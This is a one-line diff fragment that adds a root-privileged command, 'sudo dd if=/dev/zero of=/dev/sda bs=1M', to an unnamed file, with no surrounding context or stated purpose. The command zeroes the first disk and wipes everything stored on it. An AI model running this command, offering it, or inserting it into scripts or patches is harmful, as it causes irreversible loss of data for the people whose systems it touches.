@@ -1,0 +1,1 @@
+sudo dd if=/dev/zero of=/dev/sda bs=1M
